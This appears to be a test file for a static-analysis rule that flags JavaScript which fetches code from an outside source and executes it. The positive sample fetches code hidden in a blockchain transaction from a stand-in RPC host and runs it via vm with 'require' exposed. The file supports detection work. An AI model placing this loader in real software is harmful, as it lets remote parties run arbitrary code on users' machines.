// code read from a chain's transaction through two helper functions (one wraps https.request in a promise, the other
// picks the field), then run with vm: the helpers are the file's own fetchers
const vm = require('vm');
const https = require('https');
function rpc(host, body) {
  return new Promise((resolve) => {
    const req = https.request({ host, method: 'POST' }, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(JSON.parse(d).result)); });
    req.end(body);
  });
}
async function fetchCode() {
  const tx = await rpc('rpc.chain-relay.example', '{"method":"eth_getTransactionByHash"}');
  return Buffer.from(tx.input.slice(2), 'hex').toString('utf8');
}
// ruleid: js_eval_fetched
fetchCode().then((code) => { vm.runInNewContext(code, { require }); });
const template = () => 'return 1 + 1';
// ok: js_eval_fetched
const two = new Function(template())();
module.exports = { two };
